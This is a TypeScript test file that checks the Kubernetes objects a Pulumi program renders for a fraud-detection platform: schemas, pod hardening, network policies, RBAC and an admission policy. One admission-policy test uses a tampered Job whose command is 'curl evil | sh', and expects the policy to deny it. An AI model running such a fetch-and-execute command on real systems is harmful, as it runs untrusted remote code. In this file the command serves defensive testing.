/**
 * Runs the whole program for dev and prod (offline harness), takes every Kubernetes object it
 * declares and checks it against the Kubernetes OpenAPI schema (kubernetes-models, and the
 * Prometheus Operator's CRD schemas), then asserts the hardening and wiring on the rendered objects.
 */
import { evaluate } from "@marcbachmann/cel-js";
import { beforeAll, describe, expect, it } from "vitest";
import * as YAML from "yaml";
import * as fs from "node:fs";
import * as path from "node:path";
import * as core from "kubernetes-models/v1";
import * as admission from "kubernetes-models/admissionregistration.k8s.io/v1";
import * as apps from "kubernetes-models/apps/v1";
import * as autoscaling from "kubernetes-models/autoscaling/v2";
import * as batch from "kubernetes-models/batch/v1";
import * as coordination from "kubernetes-models/coordination.k8s.io/v1";
import * as networking from "kubernetes-models/networking.k8s.io/v1";
import * as policy from "kubernetes-models/policy/v1";
import * as rbac from "kubernetes-models/rbac.authorization.k8s.io/v1";
import * as monitoring from "@kubernetes-models/prometheus-operator/monitoring.coreos.com/v1";
import { ACCOUNT } from "../infra/testing/fake-state";
import { ALL_ENV_NAMES, API_DRAIN_SECONDS, COMMANDS, ENV, HTTP_PATHS, PORTS } from "../app/src/config/deploy-contract";
import { parseWorkloadSettings, type WorkloadSettings } from "./workloads";
import {
  ROOT,
  SECRET,
  UNKNOWN,
  byType,
  one,
  runStack,
  type RecordedResource,
  type StackName,
  type StackRun,
} from "../infra/testing/harness";
import { NAMESPACES, SERVICE_ACCOUNTS, serviceAccountSubject } from "../infra/workloads/names";
import { OBSERVABILITY_NAMESPACES } from "../infra/observability/names";
import { containerSecurityContext, podSecurityContext } from "../infra/workloads/pod";
import { DATABASE_ROLES_REVISION_ANNOTATION } from "../infra/workloads/api";

type Obj = Record<string, any> & { apiVersion: string; kind: string; metadata: Record<string, any> };

/** The logging and tracing namespaces: third-party images, tested in infra/observability. */
const OBSERVED = new Set<string>(Object.values(OBSERVABILITY_NAMESPACES));
/** An object of the app's workloads (not in the logging or tracing namespace). */
const ours = (o: Obj): boolean => !OBSERVED.has(o.metadata.namespace);

const MODELS: Record<string, Record<string, unknown>> = {
  v1: core,
  "apps/v1": apps,
  "autoscaling/v2": autoscaling,
  "batch/v1": batch,
  "coordination.k8s.io/v1": coordination,
  "admissionregistration.k8s.io/v1": admission,
  "networking.k8s.io/v1": networking,
  "policy/v1": policy,
  "rbac.authorization.k8s.io/v1": rbac,
  "monitoring.coreos.com/v1": monitoring,
};

const HELM_RELEASE = "kubernetes:helm.sh/v3:Release";

/** Kubernetes objects as the provider would send them: the recorded inputs (the SDK adds apiVersion/kind). */
function kubernetesObjects(run: StackRun): Obj[] {
  return run.resources.filter((r) => r.custom && r.type.startsWith("kubernetes:") && r.type !== HELM_RELEASE).map((r) => r.inputs as Obj);
}

function validate(o: Obj): void {
  const Model = MODELS[o.apiVersion]?.[o.kind] as (new (data: unknown) => { validate(): void }) | undefined;
  if (!Model) throw new Error(`no schema for ${o.apiVersion} ${o.kind} (${o.metadata?.name}): add it to MODELS`);
  // The provider marks a Secret's whole stringData secret; the harness redacts it to one string.
  const checked = o.kind === "Secret" && o.stringData === SECRET ? { ...o, stringData: { redacted: "" } } : o;
  try {
    new Model(checked).validate();
  } catch (e) {
    throw new Error(`${o.kind} ${o.metadata?.namespace}/${o.metadata?.name} is invalid: ${(e as Error).message}`);
  }
}

const podTemplate = (o: Obj): Record<string, any> | undefined =>
  o.kind === "CronJob" ? o.spec.jobTemplate.spec.template : o.kind === "Deployment" ? o.spec.template : undefined;

const allContainers = (pod: Record<string, any>): Record<string, any>[] => [...(pod.spec.initContainers ?? []), ...pod.spec.containers];

function stackSettings(stack: StackName): WorkloadSettings {
  const file = YAML.parse(fs.readFileSync(path.join(ROOT, `Pulumi.${stack}.yaml`), "utf8"));
  return parseWorkloadSettings(file.config["fraud-platform:workloads"]);
}

const runs = {} as Record<StackName, StackRun>;
beforeAll(async () => {
  runs.dev = await runStack("dev");
  runs.prod = await runStack("prod");
}, 120_000);

describe.each(["dev", "prod"] as const)("workloads of the %s stack", (stack) => {
  const run = () => runs[stack];
  const objects = () => kubernetesObjects(run());
  const find = (kind: string, name: string, namespace?: string): Obj => {
    const o = objects().find(
      (x) => x.kind === kind && x.metadata.name === name && (namespace === undefined || x.metadata.namespace === namespace),
    );
    if (!o) throw new Error(`no ${kind} ${name}`);
    return o;
  };
  const settings = stackSettings(stack);

  it("renders objects that the Kubernetes (and Prometheus Operator) schemas accept", () => {
    const all = objects();
    const kinds = new Set(all.map((o) => o.kind));
    for (const k of [
      "Namespace",
      "ServiceAccount",
      "Deployment",
      "Service",
      "HorizontalPodAutoscaler",
      "PodDisruptionBudget",
      "Ingress",
      "NetworkPolicy",
      "CronJob",
      "ConfigMap",
      "ServiceMonitor",
      "PrometheusRule",
    ]) {
      expect(kinds, k).toContain(k);
    }
    for (const o of all) validate(o);
    expect(JSON.stringify(all)).not.toContain(UNKNOWN);
  });

  it("sends every Kubernetes object through the cluster's provider", () => {
    const providers = byType(run(), "pulumi:providers:kubernetes");
    expect(providers).toHaveLength(1);
    expect(providers[0].inputs.kubeconfig).toBe(SECRET);
    const k8s = run().resources.filter((r) => r.custom && r.type.startsWith("kubernetes:"));
    for (const r of k8s) expect(r.provider, r.name).toMatch(new RegExp(`^${providers[0].urn.replace(/[$]/g, "\\$")}::`));
  });

  it("labels our namespaces for the restricted Pod Security level", () => {
    for (const ns of Object.values(NAMESPACES)) {
      const labels = find("Namespace", ns).metadata.labels;
      for (const mode of ["enforce", "audit", "warn"]) expect(labels[`pod-security.kubernetes.io/${mode}`]).toBe("restricted");
    }
  });

  it("hardens every container of every pod, init containers included", () => {
    const pods = objects()
      .filter(ours)
      .map(podTemplate)
      .filter((p) => p !== undefined);
    // api, worker, trainer, challenger compare, drift-retrain
    expect(pods.length).toBe(5);
    for (const pod of pods) {
      expect(pod.spec.securityContext).toEqual(podSecurityContext());
      // only drift-retrain calls the Kubernetes API (its Role: the trainer CronJob and Jobs)
      expect(pod.spec.automountServiceAccountToken).toBe(pod.metadata.labels["app.kubernetes.io/name"] === "fraud-drift-retrain");
      expect(pod.spec.volumes.every((v: any) => Object.keys(v).sort().join() === "emptyDir,name")).toBe(true);
      for (const c of allContainers(pod)) {
        expect(c.securityContext, c.name).toEqual(containerSecurityContext());
        expect(c.volumeMounts).toContainEqual({ name: "tmp", mountPath: "/tmp" });
        expect(Object.keys(c.resources.requests).sort()).toEqual(["cpu", "memory"]);
        expect(Object.keys(c.resources.limits).sort()).toEqual(["cpu", "memory"]);
        expect(c.image).toMatch(/^\d{12}\.dkr\.ecr\.[a-z0-9-]+\.amazonaws\.com\/.+@sha256:[0-9a-f]{64}$/); // by digest (infra/images)
      }
    }
  });

  it("sets only environment variables of the deploy contract, as plain non-secret values", () => {
    const known = new Set<string>(ALL_ENV_NAMES);
    for (const pod of objects()
      .map(podTemplate)
      .filter((p) => p !== undefined)) {
      for (const c of allContainers(pod)) {
        expect(c.envFrom).toBeUndefined();
        for (const e of c.env) {
          expect(known.has(e.name), `${c.name}: ${e.name}`).toBe(true);
          expect(e.valueFrom, `${c.name}: ${e.name}`).toBeUndefined();
          expect(typeof e.value).toBe("string");
          expect(e.value).not.toBe(SECRET);
          expect(e.value).not.toMatch(/harness-secret|password=|:\/\/[^/]*:[^/]*@/i);
        }
      }
    }
    for (const cm of objects().filter((o) => o.kind === "ConfigMap")) expect(JSON.stringify(cm.data)).not.toContain(SECRET);
  });

  it("wires the API to the platform's endpoints and secret ARNs", () => {
    const api = find("Deployment", "fraud-api").spec.template.spec;
    const env = Object.fromEntries(api.containers[0].env.map((e: any) => [e.name, e.value]));
    const outputs = run().outputs;
    expect(env[ENV.redisUrl]).toBe(`rediss://${outputs.redisEndpoint}`);
    expect(`${env[ENV.databaseHost]}:${env[ENV.databasePort]}`).toBe(outputs.databaseEndpoint);
    expect(env[ENV.modelRegistry]).toBe(`s3://${outputs.modelBucketName}/models`);
    for (const name of [ENV.apiKeysSecretArn, ENV.consoleUsersSecretArn, ENV.redisAuthSecretArn, ENV.databaseSecretArn])
      expect(env[name]).toMatch(/^arn:aws:secretsmanager:/);
    // The API is not a Kafka client; the worker is, and serves no API keys.
    expect(Object.keys(env).filter((k) => k.startsWith("KAFKA_"))).toEqual([]);
    const worker = Object.fromEntries(
      find("Deployment", "fraud-worker").spec.template.spec.containers[0].env.map((e: any) => [e.name, e.value]),
    );
    expect(worker[ENV.kafkaBrokers]).toBe(outputs.mskBootstrapBrokersIam);
    expect(worker[ENV.kafkaIamAuth]).toBe("true");
    expect(worker[ENV.apiKeysSecretArn]).toBeUndefined();
    expect(worker[ENV.consoleUsersSecretArn]).toBeUndefined();
    expect(env[ENV.shutdownDrainSeconds]).toBe(String(API_DRAIN_SECONDS));
    expect(api.containers[0].command).toEqual(COMMANDS.api);
    expect(api.initContainers.map((c: any) => c.command)).toEqual([COMMANDS.migrate]);
  });

  it("logs each workload in to PostgreSQL as its own role; the migration as the master user, creating the roles", () => {
    const envOf = (c: any) => Object.fromEntries(c.env.map((e: any) => [e.name, e.value]));
    const { secretArns } = run().outputs;
    const api = find("Deployment", "fraud-api").spec.template.spec;
    const worker = find("Deployment", "fraud-worker").spec.template.spec.containers[0];
    const trainer = find("CronJob", "fraud-trainer", NAMESPACES.training).spec.jobTemplate.spec.template.spec.containers[0];
    expect(envOf(api.containers[0])[ENV.databaseSecretArn]).toBe(secretArns.databaseApi);
    expect(envOf(worker)[ENV.databaseSecretArn]).toBe(secretArns.databaseApi);
    expect(envOf(trainer)[ENV.databaseSecretArn]).toBe(secretArns.databaseTrainer);
    expect(envOf(api.initContainers[0])).toMatchObject({
      [ENV.databaseSecretArn]: secretArns.database,
      [ENV.databaseApiRoleSecretArn]: secretArns.databaseApi,
      [ENV.databaseTrainerRoleSecretArn]: secretArns.databaseTrainer,
    });
    for (const c of [api.containers[0], worker, trainer]) expect(envOf(c)[ENV.databaseApiRoleSecretArn]).toBeUndefined();
  });

  it("probes, rolls out and terminates the API and the worker safely", () => {
    // The API is probed where it serves traffic, with the readiness that survives a data-store
    // outage; the worker serves its probes on the metrics port only (app/src/worker/main.ts).
    const probed = {
      "fraud-api": ["http", PORTS.http, HTTP_PATHS.servingReadiness],
      "fraud-worker": ["metrics", PORTS.metrics, HTTP_PATHS.readiness],
    } as const;
    for (const [name, [port, containerPort, readiness]] of Object.entries(probed)) {
      const d = find("Deployment", name);
      const pod = d.spec.template.spec;
      const c = pod.containers[0];
      expect(c.livenessProbe.httpGet).toEqual({ path: HTTP_PATHS.liveness, port });
      expect(c.startupProbe.httpGet).toEqual({ path: HTTP_PATHS.liveness, port });
      expect(c.readinessProbe.httpGet).toEqual({ path: readiness, port });
      expect(c.ports).toEqual(
        name === "fraud-api"
          ? expect.arrayContaining([{ name: port, containerPort, protocol: "TCP" }])
          : [{ name: port, containerPort, protocol: "TCP" }],
      );
      expect(d.spec.strategy.rollingUpdate.maxUnavailable).toBe(0);
      expect(pod.terminationGracePeriodSeconds).toBeGreaterThan(API_DRAIN_SECONDS);
      expect(pod.topologySpreadConstraints[0]).toMatchObject({
        topologyKey: "topology.kubernetes.io/zone",
        whenUnsatisfiable: settings.zoneSpread,
      });
      expect(find("Deployment", "fraud-worker").spec.template.spec.containers[0].command).toEqual(COMMANDS.worker);
    }
  });

  it("takes an API pod out of the load balancer before signalling it, and leaves it time to drain", () => {
    const pod = find("Deployment", "fraud-api").spec.template.spec;
    const sleep = pod.containers[0].lifecycle.preStop.sleep.seconds;
    const attributes = find("Ingress", "fraud-api").metadata.annotations["alb.ingress.kubernetes.io/target-group-attributes"];
    const delay = Number(/deregistration_delay\.timeout_seconds=(\d+)/.exec(attributes)![1]);
    expect(sleep).toBeGreaterThan(delay);
    expect(pod.terminationGracePeriodSeconds).toBeGreaterThan(sleep + API_DRAIN_SECONDS);
  });

  it("rolls the API (whose migration sets the workload roles' passwords) when a role's password changes, not the worker", () => {
    const version = (name: string) => one(run(), "aws:secretsmanager/secretVersion:SecretVersion", name).state.versionId;
    const annotations = (name: string) => find("Deployment", name).spec.template.metadata.annotations ?? {};
    expect(annotations("fraud-api")[DATABASE_ROLES_REVISION_ANNOTATION]).toBe(`${version("db-roles-api")},${version("db-roles-trainer")}`);
    expect(annotations("fraud-worker")[DATABASE_ROLES_REVISION_ANNOTATION]).toBeUndefined();
  });

  it("autoscales each Deployment and protects it with a disruption budget", () => {
    const deployments = objects().filter((o) => o.kind === "Deployment" && ours(o));
    expect(deployments.map((d) => d.metadata.name).sort()).toEqual(["fraud-api", "fraud-worker"]);
    for (const d of deployments) {
      const hpa = objects().find((o) => o.kind === "HorizontalPodAutoscaler" && o.spec.scaleTargetRef.name === d.metadata.name);
      expect(hpa, d.metadata.name).toBeDefined();
      expect(hpa!.spec.metrics.map((m: any) => m.resource.name)).toEqual(["cpu", "memory"]);
      expect(hpa!.spec.behavior.scaleUp.policies.length).toBeGreaterThan(0);
      expect(hpa!.spec.behavior.scaleDown.stabilizationWindowSeconds).toBeGreaterThan(0);
      const pdb = objects().find((o) => o.kind === "PodDisruptionBudget" && o.metadata.name === d.metadata.name);
      expect(pdb!.spec.selector.matchLabels).toEqual(d.spec.selector.matchLabels);
      expect(d.spec.template.metadata.labels).toMatchObject(d.spec.selector.matchLabels);
    }
    const apiHpa = find("HorizontalPodAutoscaler", "fraud-api");
    expect(apiHpa.spec.minReplicas).toBe(settings.api.minReplicas);
    if (stack === "prod") expect(apiHpa.spec.minReplicas).toBeGreaterThanOrEqual(2);
  });

  it("binds each service account to the IRSA role that trusts exactly it", () => {
    const roles = byType(run(), "aws:iam/role:Role");
    for (const sa of Object.values(SERVICE_ACCOUNTS).filter((s) => s.namespace !== "kube-system")) {
      const account = find("ServiceAccount", sa.name, sa.namespace);
      const arn = account.metadata.annotations["eks.amazonaws.com/role-arn"];
      const role = roles.find((r: RecordedResource) => r.state.arn === arn);
      expect(role, sa.name).toBeDefined();
      expect(role!.inputs.assumeRolePolicy).toContain(`"${serviceAccountSubject(sa)}"`);
    }
    const lbc = byType(run(), HELM_RELEASE).find((r) => r.inputs.chart === "aws-load-balancer-controller");
    const lbcRole = roles.find((r) => r.state.arn === lbc!.inputs.values.serviceAccount.annotations["eks.amazonaws.com/role-arn"]);
    expect(lbcRole!.inputs.assumeRolePolicy).toContain(`"${serviceAccountSubject(SERVICE_ACCOUNTS.loadBalancerController)}"`);
    // Its policy names the account the stack runs in, and the nodes' group as the only untagged one it may open.
    const lbcPolicy = byType(run(), "aws:iam/rolePolicy:RolePolicy").find((p) => p.inputs.role === lbcRole!.state.name)!.inputs
      .policy as string;
    const arns = JSON.parse(lbcPolicy)
      .Statement.flatMap((st: any) => [st.Resource].flat())
      .filter((r: string) => r !== "*");
    expect(arns.filter((a: string) => a.split(":")[4] !== ACCOUNT)).toEqual([]);
    const nodeSg = run().resources.find((r) => r.name === "cache-redis-from-nodes")!.inputs.referencedSecurityGroupId;
    expect(lbcPolicy).toContain(`security-group/${nodeSg}"`);
  });

  it("exposes the API through the ALB controller over HTTPS only, with the configured or a self-signed certificate", () => {
    const ing = find("Ingress", "fraud-api");
    expect(ing.spec.ingressClassName).toBe("alb");
    // /metrics is answered by the load balancer itself (404); everything else goes to the API Service.
    expect(ing.spec.rules[0].http.paths.map((p: any) => [p.path, p.backend.service.name, p.backend.service.port.name])).toEqual([
      [HTTP_PATHS.metrics, "block-metrics", "use-annotation"],
      ["/", "fraud-api", "http"],
    ]);
    const a = ing.metadata.annotations;
    expect(a["alb.ingress.kubernetes.io/listen-ports"]).toBe('[{"HTTPS":443}]');
    const imported = byType(run(), "aws:acm/certificate:Certificate");
    if (settings.ingress.certificateArn) {
      expect(a["alb.ingress.kubernetes.io/certificate-arn"]).toBe(settings.ingress.certificateArn);
      expect(imported).toEqual([]);
      expect(run().outputs.apiCertificatePem).toBeUndefined();
    } else {
      // dev: a self-signed certificate, imported into ACM, covering the region's load balancer names.
      expect(imported).toHaveLength(1);
      expect(a["alb.ingress.kubernetes.io/certificate-arn"]).toBe(imported[0].state.arn);
      expect(imported[0].inputs.privateKey).toBe(SECRET);
      const cert = byType(run(), "tls:index/selfSignedCert:SelfSignedCert")[0];
      expect(cert.inputs.dnsNames).toContain(`*.${run().outputs.region}.elb.amazonaws.com`);
      expect(cert.inputs.allowedUses).toContain("server_auth");
      expect(imported[0].inputs.certificateBody).toBe(cert.state.certPem);
      expect(run().outputs.apiCertificatePem).toBe(cert.state.certPem);
    }
    expect(run().outputs.apiUrl).toMatch(/^https:\/\//);
  });

  it("denies by default and opens only the documented paths", () => {
    const policies = objects().filter((o) => o.kind === "NetworkPolicy");
    const namespaces = objects()
      .filter((o) => o.kind === "Namespace")
      .map((o) => o.metadata.name);
    // ours and monitoring's, plus logging's and tracing's (infra/observability, tested there); each starts closed
    expect(namespaces.filter((n) => !OBSERVED.has(n)).length).toBe(settings.monitoring.prometheus === "install" ? 3 : 2);
    for (const ns of namespaces) {
      const deny = policies.find((p) => p.metadata.namespace === ns && p.metadata.name === "default-deny");
      expect(deny?.spec, ns).toEqual({ podSelector: {}, policyTypes: ["Ingress", "Egress"] });
    }
    const vpcCidr = JSON.parse(stackConfigValue(stack, "fraud-platform:network")).vpcCidr;
    const lb = policies.find((p) => p.metadata.name === "api-from-load-balancer")!;
    expect(lb.spec.ingress[0].from).toEqual([{ ipBlock: { cidr: vpcCidr } }]);
    // HTTPS leaves only for the interface endpoints' subnets and the S3 gateway endpoint's ranges.
    const endpointSubnets = new Set(
      byType(run(), "aws:ec2/vpcEndpoint:VpcEndpoint")
        .filter((e) => e.inputs.vpcEndpointType === "Interface")
        .flatMap((e) => e.inputs.subnetIds),
    );
    const endpointCidrs = byType(run(), "aws:ec2/subnet:Subnet")
      .filter((sn) => endpointSubnets.has(sn.id))
      .map((sn) => sn.inputs.cidrBlock);
    const s3Cidrs = byType(run(), "aws:ec2/vpcEndpoint:VpcEndpoint").find((e) => e.inputs.vpcEndpointType === "Gateway")!.state.cidrBlocks;
    for (const name of ["serving-to-data-stores", "trainer-to-data-stores"]) {
      const https = policies.find((p) => p.metadata.name === name)!.spec.egress.find((r: any) => r.ports.some((x: any) => x.port === 443));
      expect(https.to.map((t: any) => t.ipBlock.cidr).sort(), name).toEqual([...endpointCidrs, ...s3Cidrs].sort());
    }
    expect(JSON.stringify(policies)).not.toContain("0.0.0.0/0");
  });

  it("schedules the trainer weekly, one run at a time, bounded", () => {
    const cj = find("CronJob", "fraud-trainer", NAMESPACES.training);
    expect(cj.spec).toMatchObject({
      schedule: settings.trainer.schedule,
      concurrencyPolicy: "Forbid",
      successfulJobsHistoryLimit: settings.trainer.successfulJobsHistoryLimit,
      failedJobsHistoryLimit: settings.trainer.failedJobsHistoryLimit,
    });
    expect(cj.spec.jobTemplate.spec).toMatchObject({
      activeDeadlineSeconds: settings.trainer.activeDeadlineSeconds,
      backoffLimit: settings.trainer.backoffLimit,
    });
    const c = cj.spec.jobTemplate.spec.template.spec.containers[0];
    expect(c.command).toEqual(COMMANDS.trainer);
    expect(c.args).toEqual(["--registry", `s3://${run().outputs.modelBucketName}/models`, "--source", "postgres"]);
    // Features are computed the same way at training and serving time.
    const featureEnv = (env: any[]) => env.filter((e) => e.name === ENV.featureTimezone || e.name === ENV.labelDelayDays);
    expect(featureEnv(c.env)).toEqual(featureEnv(find("Deployment", "fraud-api").spec.template.spec.containers[0].env));
    expect(featureEnv(c.env)).toHaveLength(2);
  });

  it("compares champion and challenger daily with the trainer's identity and egress, the report into the registry", () => {
    const cj = find("CronJob", "fraud-challenger-compare", NAMESPACES.training);
    const c = settings.trainer.compare;
    expect(cj.spec).toMatchObject({ schedule: c.schedule, concurrencyPolicy: "Forbid", timeZone: "Etc/UTC" });
    const pod = cj.spec.jobTemplate.spec.template.spec;
    const trainer = find("CronJob", "fraud-trainer", NAMESPACES.training).spec.jobTemplate.spec.template.spec;
    expect(pod.serviceAccountName).toBe(trainer.serviceAccountName);
    const [container] = pod.containers;
    expect(container.command).toEqual(COMMANDS["challenger-compare"]);
    expect(container.image).toBe(trainer.containers[0].image);
    expect(container.args).toEqual(["--since-days", String(c.sinceDays), "--registry", `s3://${run().outputs.modelBucketName}/models`]);
    // the same database, registry and label delay as the trainer
    expect(container.env).toEqual(trainer.containers[0].env);
    const egress = find("NetworkPolicy", "challenger-compare-to-data-stores", NAMESPACES.training);
    expect(egress.spec.podSelector.matchLabels).toEqual({ "app.kubernetes.io/name": "fraud-challenger-compare" });
    expect(egress.spec.egress).toEqual(find("NetworkPolicy", "trainer-to-data-stores", NAMESPACES.training).spec.egress);
  });

  it("retrains on drift: a CronJob running drift-retrain with the stack's timings, least-privilege RBAC", () => {
    const cj = find("CronJob", "fraud-drift-retrain", NAMESPACES.training);
    const d = settings.trainer.driftRetrain;
    expect(cj.spec).toMatchObject({ schedule: d.schedule, concurrencyPolicy: "Forbid" });
    const pod = cj.spec.jobTemplate.spec.template.spec;
    expect(pod.serviceAccountName).toBe("fraud-drift-retrain");
    const c = pod.containers[0];
    expect(c.command).toEqual(COMMANDS["drift-retrain"]);
    // the trainer image, which holds drift-retrain.js
    expect(c.image).toBe(find("CronJob", "fraud-trainer").spec.jobTemplate.spec.template.spec.containers[0].image);
    const env = Object.fromEntries(c.env.map((e: any) => [e.name, e.value]));
    expect(env).toEqual({
      [ENV.prometheusUrl]: `http://kube-prometheus-stack-prometheus.${settings.monitoring.namespace}.svc.cluster.local:9090`,
      [ENV.trainerCronJob]: "fraud-trainer",
      [ENV.driftRetrainLease]: "fraud-drift-retrain",
      [ENV.driftAlerts]: "FraudFeatureDrift,FraudScoreDrift",
      [ENV.driftAlertForMinutes]: "30",
      [ENV.driftRetrainAfterMinutes]: String(d.firingMinutes),
      [ENV.driftRetrainMinIntervalHours]: String(d.minIntervalHours),
    });
    expect(find("Role", "fraud-drift-retrain", NAMESPACES.training).rules).toEqual([
      // the CronJob only read: a patch could rewrite the trainer's job template
      { apiGroups: ["batch"], resources: ["cronjobs"], resourceNames: ["fraud-trainer"], verbs: ["get"] },
      { apiGroups: ["batch"], resources: ["jobs"], verbs: ["list", "create"] },
      { apiGroups: ["coordination.k8s.io"], resources: ["leases"], resourceNames: ["fraud-drift-retrain"], verbs: ["get", "update"] },
    ]);
    // the claim's Lease, owned by nothing (a re-created CronJob does not take it along)
    const lease = find("Lease", "fraud-drift-retrain", NAMESPACES.training);
    expect(lease.metadata.ownerReferences).toBeUndefined();
    // the Jobs it may create: the trainer's, and only for that account
    const trainerPod = find("CronJob", "fraud-trainer").spec.jobTemplate.spec.template.spec;
    const policy = find("ValidatingAdmissionPolicy", "fraud-drift-retrain-jobs");
    expect(policy.spec.failurePolicy).toBe("Fail");
    expect(policy.spec.matchConstraints).toEqual({
      namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": NAMESPACES.training } },
      resourceRules: [{ apiGroups: ["batch"], apiVersions: ["v1"], resources: ["jobs"], operations: ["CREATE"] }],
    });
    expect(policy.spec.matchConditions).toEqual([
      {
        name: "created-by-drift-retrain",
        expression: `request.userInfo.username == "system:serviceaccount:${NAMESPACES.training}:fraud-drift-retrain"`,
      },
    ]);
    const rules = policy.spec.validations.map((v: any) => v.expression).join("\n");
    expect(rules).toContain(`serviceAccountName == "${trainerPod.serviceAccountName}"`);
    expect(rules).toContain(`c.image == "${trainerPod.containers[0].image}"`);
    expect(rules).toContain(`c.command == ${JSON.stringify(trainerPod.containers[0].command).replaceAll(",", ", ")}`);
    expect(rules).toContain(`r.kind == "CronJob" && r.name == "fraud-trainer"`);
    expect(find("ValidatingAdmissionPolicyBinding", "fraud-drift-retrain-jobs").spec).toEqual({
      policyName: "fraud-drift-retrain-jobs",
      validationActions: ["Deny"],
    });
  });

  it("admits from drift-retrain only the Job kubectl create job --from=cronjob/fraud-trainer would make (the policy's CEL, evaluated)", () => {
    const policy = find("ValidatingAdmissionPolicy", "fraud-drift-retrain-jobs").spec;
    const matches = (username: string): boolean =>
      policy.matchConditions.every((c: any) => evaluate(c.expression, { request: { userInfo: { username } } }) === true);
    expect(matches(`system:serviceaccount:${NAMESPACES.training}:fraud-drift-retrain`)).toBe(true);
    // a person or the CronJob controller is not held by it
    expect(matches("system:serviceaccount:kube-system:cronjob-controller")).toBe(false);
    const refused = (job: Obj): string[] =>
      policy.validations.filter((v: any) => evaluate(v.expression, { object: job }) !== true).map((v: any) => v.message);
    const trainer = find("CronJob", "fraud-trainer", NAMESPACES.training);
    // what app/src/retrain/decide.ts's jobFromCronJob builds
    const job: Obj = {
      apiVersion: "batch/v1",
      kind: "Job",
      metadata: {
        name: "fraud-trainer-drift-1764590400",
        namespace: NAMESPACES.training,
        ownerReferences: [{ apiVersion: "batch/v1", kind: "CronJob", name: "fraud-trainer", uid: "u-1", controller: true }],
      },
      spec: structuredClone(trainer.spec.jobTemplate.spec),
    };
    expect(refused(job)).toEqual([]);
    const changed = (edit: (j: any) => void): string[] => {
      const j = structuredClone(job);
      edit(j);
      return refused(j);
    };
    expect(changed((j) => (j.spec.template.spec.serviceAccountName = "fraud-drift-retrain"))).toEqual([
      "a drift-retrain Job runs as fraud-trainer",
    ]);
    expect(changed((j) => delete j.spec.template.spec.serviceAccountName)).toEqual(["a drift-retrain Job runs as fraud-trainer"]);
    const imageOnly = ["a drift-retrain Job runs the trainer's image and command only"];
    expect(changed((j) => (j.spec.template.spec.containers[0].image = "attacker/image:1"))).toEqual(imageOnly);
    expect(changed((j) => (j.spec.template.spec.containers[0].command = ["sh", "-c", "curl evil | sh"]))).toEqual(imageOnly);
    expect(changed((j) => j.spec.template.spec.containers.push({ ...j.spec.template.spec.containers[0], image: "x" }))).toEqual(imageOnly);
    expect(changed((j) => (j.spec.template.spec.initContainers = [{ name: "i", image: "attacker/image:1" }]))).toEqual(imageOnly);
    const owned = ["a drift-retrain Job is owned by the fraud-trainer CronJob"];
    expect(changed((j) => delete j.metadata.ownerReferences)).toEqual(owned);
    expect(changed((j) => (j.metadata.ownerReferences[0].controller = false))).toEqual(owned);
    expect(changed((j) => (j.metadata.ownerReferences[0].name = "fraud-challenger-compare"))).toEqual(owned);
    expect(find("RoleBinding", "fraud-drift-retrain", NAMESPACES.training)).toMatchObject({
      roleRef: { kind: "Role", name: "fraud-drift-retrain" },
      subjects: [{ kind: "ServiceAccount", name: "fraud-drift-retrain", namespace: NAMESPACES.training }],
    });
    expect(objects().some((o) => o.kind === "ClusterRole" || o.kind === "ClusterRoleBinding")).toBe(false);
  });

  it("ships monitoring: kube-prometheus-stack when asked, the ServiceMonitor, alerts and the dashboard", () => {
    const releases = byType(run(), HELM_RELEASE)
      .map((r) => r.inputs.chart)
      .sort();
    expect(releases).toEqual(
      settings.monitoring.prometheus === "install"
        ? ["aws-for-fluent-bit", "aws-load-balancer-controller", "kube-prometheus-stack"]
        : ["aws-for-fluent-bit", "aws-load-balancer-controller"],
    );
    const sm = find("ServiceMonitor", "fraud-platform");
    expect(sm.spec.endpoints[0]).toMatchObject({ port: "metrics", path: HTTP_PATHS.metrics });
    const scraped = objects()
      .filter((o) => o.kind === "Service" && o.metadata.labels?.["fraud-platform/metrics"] === "true")
      .map((s) => s.metadata.name)
      .sort();
    expect(scraped).toEqual(["fraud-api", "fraud-worker-metrics"]);
    const alerts = find("PrometheusRule", "fraud-platform-alerts").spec.groups.flatMap((g: any) => g.rules.map((r: any) => r.alert));
    expect(alerts).toEqual(
      expect.arrayContaining([
        "FraudApiHighErrorRate",
        "FraudApiHighLatencyP99",
        "FraudModelNotLoaded",
        "FraudFeatureStoreDegraded",
        "FraudTrainerFailed",
        "FraudTrainerLate",
        "FraudChallengerComparisonStale",
      ]),
    );
    const dash = find("ConfigMap", "fraud-platform-dashboard");
    expect(dash.metadata.labels.grafana_dashboard).toBe("1");
    expect(JSON.parse(dash.data["fraud-platform.json"]).panels.length).toBeGreaterThanOrEqual(10);
  });

  it("gives Grafana a generated admin password from a Secret, never a literal in the chart values", () => {
    if (settings.monitoring.prometheus !== "install") return;
    const release = byType(run(), HELM_RELEASE).find((r) => r.inputs.chart === "kube-prometheus-stack")!;
    expect(release.inputs.values.grafana.admin).toEqual({
      existingSecret: "grafana-admin",
      userKey: "admin-user",
      passwordKey: "admin-password",
    });
    expect(release.inputs.values.grafana.adminPassword).toBeUndefined();
    // The port the monitoring namespace's network policy opens to the control plane.
    expect(release.inputs.values.prometheusOperator.tls.internalPort).toBe(10250);
    const secret = find("Secret", "grafana-admin", settings.monitoring.namespace);
    // The whole stringData is a Pulumi secret (redacted by the harness): the password is in no plain input.
    expect(secret.stringData).toBe(SECRET);
    expect(JSON.stringify(release.inputs.values)).not.toMatch(/password"\s*:\s*"[^"]/i);
    const password = byType(run(), "random:index/randomPassword:RandomPassword").find((r) => r.name.endsWith("-grafana-admin"))!;
    expect(password.inputs.length).toBeGreaterThanOrEqual(32);
  });
});

function stackConfigValue(stack: StackName, key: string): string {
  const v = YAML.parse(fs.readFileSync(path.join(ROOT, `Pulumi.${stack}.yaml`), "utf8")).config[key];
  return typeof v === "string" ? v : JSON.stringify(v);
}

describe("workloads under `pulumi preview`", () => {
  it("declare the same Kubernetes objects while platform outputs are still unknown", async () => {
    const preview = await runStack("prod", { preview: true });
    const names = (run: StackRun) =>
      run.resources
        .filter((r) => r.type.startsWith("kubernetes:"))
        .map((r) => `${r.type} ${r.name}`)
        .sort();
    expect(names(preview)).toEqual(names(runs.prod));
  }, 60_000);
});
